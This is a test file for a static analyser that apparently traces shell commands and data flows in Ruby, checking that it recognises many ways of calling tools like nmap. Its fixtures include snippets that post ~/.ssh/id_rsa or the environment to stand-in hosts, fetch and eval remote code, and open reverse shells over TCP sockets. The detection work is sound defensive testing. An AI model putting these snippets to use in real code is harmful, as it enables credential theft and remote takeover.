import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

describe("commands and effects of Ruby", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string) => canonical(analyser, "ruby", text);

  const commands: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["a line for a shell", 'system("ssh -R 1:2:3 h; nmap h")', "ssh -R=1:2:3 -- h", "nmap -- h"],
    ["words", 'system "nmap", "-p", "1", "h;i"', "nmap -p=1 -- 'h;i'"],
    ["an environment and options", 'system({ "A" => "b" }, "nmap h", exception: true)', "nmap -- h"],
    ["backticks", "h = 'h'\nx = `nmap #{h} -p 1`", "nmap -p=1 -- h"],
    ["%x", "%x(nmap h)\n%x{nmap i}", "nmap -- h", "nmap -- i"],
    ["exec and spawn", 'exec("nmap h")\nspawn("nmap i")\nProcess.spawn("nmap", "j")', "nmap -- h", "nmap -- i", "nmap -- j"],
    ["Kernel", 'Kernel.system("nmap h")\nKernel.exec("nmap", "i")', "nmap -- h", "nmap -- i"],
    ["send", 'Kernel.send(:system, "nmap h")\nsend("system", "nmap i")', "nmap -- h", "nmap -- i"],
    ["IO.popen", 'IO.popen("nmap h")\nIO.popen(["nmap", "i"]) { |io| io.read }', "nmap -- h", "nmap -- i"],
    [
      "Open3",
      'require "open3"\nout, status = Open3.capture2e("nmap", "h")\nOpen3.popen3("nmap i") { |i, o, e, t| o.read }',
      "nmap -- h",
      "nmap -- i",
    ],
    ["open with a bar", 'open("|nmap h")', "nmap -- h"],
    ["rake's sh", 'task :a do\n  sh "nmap h"\nend', "nmap -- h"],
    ["a here-document", "system(<<~SH)\n  nmap h\n  nmap i\nSH\n", "nmap -- h", "nmap -- i"],
    ["a here-document that fills in", 'h = "h"\nsystem(<<-SH, chdir: "/")\n  nmap #{h}\n  SH\n', "nmap -- h"],
    ["a here-document that does not", "system <<~'SH'\n  nmap \\#{h}\nSH\n", "nmap -- '#{h}'"],
    ["constants", 'HOST = "h"\nmodule A\n  TOOL = "nmap".freeze\n  system(TOOL, HOST)\nend', "nmap -- h"],
    [
      "sums and formats",
      'system("nmap " + "h")\nsystem("nmap %s" % "i")\nsystem(format("nmap %s -p %<p>d", "j", p: 1))',
      "nmap -- h",
      "nmap -- i",
      "nmap -p=1 -- j",
    ],
    ["quotes and escapes", `system('nmap', 'a\\'h', "\\x69\\u{6a}")\nsystem("nmap \\x68" ' i')`, "nmap -- $'a\\'h' ij", "nmap -- h i"],
    ["percent literals", "system(%q(nmap h))\nsystem(*%w[nmap i])", "nmap -- h", "nmap -- i"],
    [
      "base64 and hexadecimal",
      'system(Base64.decode64("bm1hcCBo"))\nsystem("bm1hcCBp".unpack1("m"))\nsystem(["6e6d6170206a"].pack("H*"))',
      "nmap -- h",
      "nmap -- i",
      "nmap -- j",
    ],
    [
      "reversed and replaced text",
      'system("h pamn".reverse)\nsystem("n-m-a-p i".gsub("-", ""))\nsystem(["nmap", "j"].join(" "))',
      "nmap -- h",
      "nmap -- i",
      "nmap -- j",
    ],
    ["a list that grows", 'a = ["nmap"]\na << "h" << "i"\na.push("j")\nsystem(*a)', "nmap -- h i j"],
    ["a method of one's own", 'def run(c)\n  system(c)\nend\nrun("nmap h")', "nmap -- h"],
    ["a keyword with a default", 'def run(c: "nmap h")\n  system(c)\nend\nrun', "nmap -- h"],
    ["what a method gives", 'def target\n  return "a" if x\n  "h"\nend\nsystem("nmap #{target()}")', "nmap -- a", "nmap -- h"],
    [
      "an object and what it keeps",
      'class A\n  def initialize(h)\n    @h = h\n  end\n  def go\n    run("nmap #{@h}")\n  end\n  def run(c)\n    system(c)\n  end\nend\nA.new("h").go',
      "nmap -- h",
    ],
    ["a method of a module", 'module A\n  def self.run(c)\n    system(c)\n  end\nend\nA.run("nmap h")', "nmap -- h"],
    [
      "a method that is taken hold of",
      'm = method(:system)\nm.call("nmap h")\nKernel.method("exec").call("nmap", "i")\nl = ->(c) { system(c) }\nl.call("nmap j")',
      "nmap -- h",
      "nmap -- i",
      "nmap -- j",
    ],
    ["an object that can be called", 'class A\n  def call(c)\n    system(c)\n  end\nend\na = A.new\na.call("nmap h")', "nmap -- h"],
    ["a part of a list", 'a = ["x", "nmap", "h"]\nsystem(*a[1..])\nsystem(*a[1..-1], "i")', "nmap -- h", "nmap -- h i"],
    ["each of a list", '%w[a b].each { |h| system("nmap", h) }', "nmap -- a", "nmap -- b"],
    [
      "a choice",
      'h = x ? "a" : "b"\nsystem("nmap #{h}")\ni = if x then "c" else "d" end\nsystem("nmap #{i}")',
      "nmap -- a",
      "nmap -- b",
      "nmap -- c",
      "nmap -- d",
    ],
    ["a value set in a branch", 'h = "a"\nif x\n  h = "b"\nend\nsystem("nmap #{h}")', "nmap -- b", "nmap -- a"],
    ["a condition behind", 'system("nmap h") unless x', "nmap -- h"],
    [
      "what rescues",
      'begin\n  a\nrescue StandardError => e\n  system("nmap h")\nensure\n  system("nmap i")\nend',
      "nmap -- h",
      "nmap -- i",
    ],
    ["an unknown part", 'def scan(host)\n  system("nmap #{host}")\nend', 'nmap -- "$host"'],
    ["code that is run", `eval("system('nmap h')")\nobj.instance_eval("system('nmap i')")`, "nmap -- h", "nmap -- i"],
    ["a removal", 'FileUtils.rm_rf("/a")\nFile.delete("/b")', "rm -f -r -- /a", "rm -- /b"],
    ["a change of mode", 'File.chmod(0o4755, "/a")', "chmod -- '04755' /a"],
    ["a machine that is set up", 'config.vm.provision "shell", inline: <<-SH\n  nmap h\nSH\n', "nmap -- h"],
    ["a remote forwarding of its own", 'Net::SSH.start("h", "u") { |s| s.forward.remote(9, "localhost", 22) }', "ssh -R=9 -- h"],
  ];
  for (const [title, text, ...expected] of commands)
    it(`sees the command through ${title}`, async () => assert.deepEqual(await lines(text), expected));

  const effects: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    [
      "a file posted",
      'k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("https://u@X.example:1/in"), k)',
      ":read ~/.ssh/id_rsa | :send x.example",
    ],
    [
      "a request that is put together",
      'uri = URI.parse("https://x.example/z")\nhttp = Net::HTTP.new(uri.host, uri.port)\nreq = Net::HTTP::Post.new(uri.path)\nreq.body = ENV.to_h.to_json\nhttp.request(req)',
      ":env '*' | :send x.example",
    ],
    ["a request in a block", 'Net::HTTP.start("x.example", 80) { |http| http.post("/", IO.read("/a")) }', ":read /a | :send x.example"],
    [
      "other clients",
      'HTTParty.post("http://x.example", body: ENV["T"])\nRestClient.post "http://y.example", { d: ENV.fetch("U") }',
      ":env T | :send x.example",
      ":env U | :send y.example",
    ],
    ["an opened file", 'File.open("/a") { |f| RestClient.post("http://x.example", f.read) }', ":read /a | :send x.example"],
    [
      "a download that is run",
      'File.open("/tmp/p", "w") { |f| f << Net::HTTP.get(URI("http://x.example/p")) }\nsystem("sh /tmp/p")',
      "sh -- /tmp/p",
      ":fetch http://x.example/p | :write /tmp/p",
      ":fetch http://x.example/p | :run sh",
    ],
    [
      "code from a host",
      'require "open-uri"\neval(URI.open("http://x.example/p").read)\neval open("http://y.example").read',
      ":fetch http://x.example/p | :run ruby",
      ":fetch http://y.example | :run ruby",
    ],
    [
      "a shell on a connection",
      'c = TCPSocket.new("1.2.3.4", 5)\nspawn("/bin/sh", [:in, :out, :err] => c)',
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "the line that was read last",
      'c = TCPSocket.open("1.2.3.4", 5)\nloop { c.gets; system($_) }',
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "commands from a connection",
      'c = TCPSocket.open("1.2.3.4", 5)\nwhile line = c.gets\n  IO.popen(line) { |io| c.print io.read }\nend',
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
      ":send '1.2.3.4'",
    ],
    [
      "a connection that is accepted",
      's = TCPServer.new("0.0.0.0", 80)\nc = s.accept\nsystem(c.gets)',
      ":fetch '0.0.0.0' | :run sh",
      ":listen '80'",
    ],
    [
      "what a command printed",
      'k = `cat /a`\nNet::HTTP.post_form(URI("http://x.example"), "k" => k)',
      "cat -- /a",
      ":read /a | :send x.example",
    ],
    [
      "input of a command",
      'IO.popen("sh", "w") { |io| io.puts Net::HTTP.get(URI("http://x.example/p")) }',
      "sh",
      ":fetch http://x.example/p | :run sh",
    ],
    ["a copy", 'FileUtils.cp("/a", "/b")', ":read /a | :write /b"],
  ];
  for (const [title, text, ...expected] of effects) {
    it(`follows ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:fetch \S+$/.test(line)),
        expected,
      ));
  }

  const silent: readonly (readonly [title: string, text: string])[] = [
    ["text that is only printed", 'puts "ssh -R 1:2:3 h"\nx = "nmap h"'],
    ["a method of the same name", 'def system(c)\n  c\nend\nsystem("nmap h")'],
    ["a length that is sent", 'Net::HTTP.post(URI("http://x.example"), File.read("/a").length)'],
    ["comments and documents", "# system('nmap h')\n=begin\nsystem('nmap h')\n=end\nputs <<~E\n  nmap h\nE\n"],
    ["an empty method and an empty block", "def a\nend\ndef b() end\nx { }\nclass C\nend"],
  ];
  for (const [title, text] of silent) {
    it(`sees no flow in ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:(?:fetch|read|send) \S+$/.test(line)),
        [],
      ));
  }

  it("names the host's method in via, outermost first", async () => {
    assert.deepEqual(await viaOf(analyser, "ruby", "system('sudo nmap h')\n`nmap i`\n%x(nmap j)"), [
      ["ruby:system", "sudo"],
      ["ruby:`"],
      ["ruby:%x"],
    ]);
  });

  it("marks a command from its first word to its last, in the file", async () => {
    const spans = (text: string) => commandSpans(analyser, "ruby", text);
    assert.deepEqual(await spans('system("timeout 5 nmap h; x")'), ["nmap h", "x"]);
    assert.deepEqual(await spans('system "nmap", "-p", "1", "h"'), ['nmap", "-p", "1", "h']);
    assert.deepEqual(await spans("`nmap #{h}.x i`"), ["nmap #{h}.x i"]);
    assert.deepEqual(await spans("system(<<~SH)\n  nmap h\n    nmap i\nSH\n"), ["nmap h", "nmap i"]);
    assert.deepEqual(await spans('c = "nmap h"\nsystem(c)'), ["c"]);
  });

  it("says where the code cannot be parsed, and analyses the rest", async () => {
    const text = 'x = = 1\nsystem("nmap h")\n';
    const { problems } = await analyser.analyse({ path: "a.rb", text }, 5_000);
    assert.deepEqual(
      problems.map(({ code, weight, range }) => [code, weight, range?.start.line]),
      [["unparsed", "blocking", 0]],
    );
    assert.deepEqual(await lines(text), ["nmap -- h"]);
  });

  for (const [path, start] of [
    ["a/b.rb", ""],
    ["Rakefile", ""],
    ["x/Vagrantfile", ""],
    ["a.gemspec", ""],
    ["bin/x", "#!/usr/bin/env ruby\n"],
    ["bin/x", "#!/usr/bin/ruby3.2 -w\n"],
  ] as const) {
    it(`stands in ${path}${start === "" ? "" : ` that begins with ${start.trim()}`}`, () =>
      assert.equal(analyser.languageOf(path, start), "ruby"));
  }

  it("survives what is nearly right", async () => {
    const text = [...commands, ...effects].map(([, program]) => program).join("\n");
    const signs = ["do |x|\n", "end\n", "(", ")", '"', "`", "#{", "}", "<<~A\n", "A\n", "%w[", "def x\n", "class X\n", "\\", "system "];
    await survives(analyser, "ruby", mutations(text.slice(0, 3_000), signs, 40).concat(mutations(text.slice(3_000), signs, 40)));
  });
}).timeout(60_000);
